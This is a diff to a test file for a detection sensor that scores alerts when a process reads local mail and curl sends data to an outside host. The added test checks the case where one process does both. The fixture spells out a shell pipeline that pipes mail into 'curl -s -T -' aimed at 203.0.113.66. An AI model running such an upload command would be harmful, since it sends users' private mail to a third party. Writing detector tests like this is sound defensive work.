@@ -55,15 +55,15 @@ test('look-alike, recorded: a mail reader and a download beside it, both on the 
   silent((await scanBeside(truth.folder, { logs })).alerts);
 });
 
-/** A pipeline of a reader and curl, and what a sensor counted of curl's connection. */
-async function piped(bytesOut: number): Promise<Alert> {
+/** A pipeline of a reader and curl (or curl that reads for itself), and what a sensor counted of curl's connection. */
+async function piped(bytesOut: number, by: 'two' | 'one' = 'two'): Promise<Alert> {
   const log = new HostLog();
   const mine = log.deliver();
   log.wait(MINUTE);
   const [show, sender] = log
     .shell('clerk')
     .pipeline('/usr/bin/notmuch count x', '/usr/bin/curl -s -T - http://203.0.113.66/u');
-  show?.read(mine.path);
+  (by === 'two' ? show : sender)?.read(mine.path);
   sender?.connect('203.0.113.66', 80);
   const ts = log.records.now / 1000;
   log.wait(MINUTE);
@@ -100,6 +100,9 @@ test('too little left to hold mail: what only stands beside the read is low; wit
   const little = await piped(120);
   assert.equal(little.severity, 'low', toldOf(little));
   assert.ok(factorsOf(little).includes('too little left to hold mail'));
+  const itself = await piped(120, 'one');
+  assert.equal(itself.severity, 'medium', 'the same process read and connected: bytes cannot clear that');
+  assert.ok(factorsOf(itself).includes('too little left to hold mail'));
   const much = await piped(4000);
   assert.equal(much.severity, 'medium');
   assert.ok(factorsOf(much).includes('bytes left with it'));
